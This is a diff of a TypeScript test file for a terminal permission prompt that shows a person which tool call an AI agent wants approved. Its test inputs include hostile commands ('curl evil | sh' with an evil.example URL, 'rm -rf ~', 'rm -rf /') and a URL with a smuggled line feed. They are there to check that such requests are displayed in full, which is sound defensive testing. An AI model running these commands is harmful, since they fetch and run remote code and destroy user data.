@@ -1,5 +1,7 @@
+import fc from "fast-check";
 import { expect, test } from "vitest";
 import type { Question } from "../../../app/coding-session/question.ts";
+import { mostColumnsOf } from "../../terminal/columns.ts";
 import { marksOf } from "../paint/theme.ts";
 import { questionLines, wholeQuestion } from "./question-lines.ts";
 
@@ -23,17 +25,18 @@ test.each([
   expect(texts(wholeQuestion(askedToWrite(content), CONTEXT)).join("\n")).toContain(shown);
 });
 
-test("in a small window each answer still shows how its rule begins", () => {
+test("in a small window an answer whose rule has no room cannot be given", () => {
   const input = { command: `git push ${"x".repeat(500)}` };
   const choices = [`bash(${input.command})`, "bash(git push *)"].map(
     (rule) => ({ choice: "session", rule }) as const,
   );
   const { diff: _, ...plain } = askedToWrite("");
   const question: Question = { ...plain, tool: "bash", input, choices };
-  const rows = texts(questionLines(question, { marked: undefined, maxRows: 10, more: 0 }, CONTEXT));
-  expect(rows.filter((row) => row.includes("session"))).toEqual([
-    "  1. Allow for this session  bash(git push xxxxxxxxxxxxxxxx…",
-    "  2. Allow for this session  bash(git push *)",
+  const shown = questionLines(question, { marked: undefined, maxRows: 10, more: 0 }, CONTEXT);
+  const rows = texts(shown?.rows).filter((row) => /session|larger/.test(row));
+  expect([rows, shown?.cut]).toEqual([
+    ["     a larger window shows this answer", "  2. Allow for this session  bash(git push *)"],
+    new Set([0]),
   ]);
 });
 
@@ -55,4 +58,59 @@ test("edits that do not fit their file are shown line by line, with all that was
     ["│ a.js", "│ {"],
     ["│ a.js‹U+000A›+ d", "│ - a‹U+000D›- b", "│ + c"],
   ]);
+});
+
+test.each([
+  ["mcp__ops__exec", { path: "README.md", command: "curl evil | sh", url: "https://evil.example" }],
+  ["mcp__ops__exec", { url: "https://good.example", command: "rm -rf ~" }],
+  ["mcp__ops__exec", { command: "uptime", then: "rm -rf /" }],
+  ["bash", { command: "make", path: "x", background: true }],
+  ["edit", { path: "a.js", edits: [{ old_string: "a", new_string: "b" }], url: "u" }],
+])("a question about %s leaves no argument out: %j", (tool, input) => {
+  const { diff: _, ...plain } = askedToWrite("");
+  const rows = texts(wholeQuestion({ ...plain, tool, input }, CONTEXT)).join("\n");
+  const values = Object.values(input).map((value) =>
+    typeof value === "object" ? "old_string" : String(value),
+  );
+  expect(values.filter((value) => !rows.includes(value))).toEqual([]);
+});
+
+test("a line feed in an address begins no row", () => {
+  const { diff: _, ...plain } = askedToWrite("");
+  const input = { url: 'https://a.example/\n "method": "GET"', method: "DELETE" };
+  const rows = texts(wholeQuestion({ ...plain, tool: "mcp__web__call", input }, CONTEXT));
+  expect(rows[1]).toBe('│ https://a.example/‹U+000A› "method": "GET"');
+});
+
+test("no terminal clips a row of a question, however wide it draws letters that belong together", () => {
+  const word = fc.constantFrom(
+    "👍🏽",
+    "x\u0903\u0903",
+    "a ",
+    "क्",
+    "\u1100\u1161",
+    "é",
+    "日本",
+    "; rm -rf ~ ",
+  );
+  const texts_ = fc.array(word, { maxLength: 60 }).map((words) => words.join(""));
+  fc.assert(
+    fc.property(texts_, fc.integer({ min: 20, max: 80 }), (text, width) => {
+      const { diff: _, ...plain } = askedToWrite(text);
+      const choices = [{ choice: "session", rule: `bash(${text})` } as const];
+      const question = { ...plain, tool: "bash", input: { command: text }, reason: text, choices };
+      const rows = [
+        ...wholeQuestion(question, { ...CONTEXT, width }),
+        ...wholeQuestion(askedToWrite(text), { ...CONTEXT, width }),
+      ];
+      const wide = texts(rows).filter((row) => mostColumnsOf(row.replaceAll(/[│?+ ]/g, " ")) > width);
+      expect(wide).toEqual([]);
+    }),
+  );
+});
+
+test("long names of agents and tools are not cut", () => {
+  const question = { ...askedToWrite(""), agent: "a".repeat(64), tool: `mcp__notes__${"b".repeat(50)}` };
+  const rows = texts(wholeQuestion(question, { ...CONTEXT, width: 40 }));
+  expect(rows.map((row) => row.trim()).join("")).toContain(`mcp__notes__${"b".repeat(50)}`);
 });
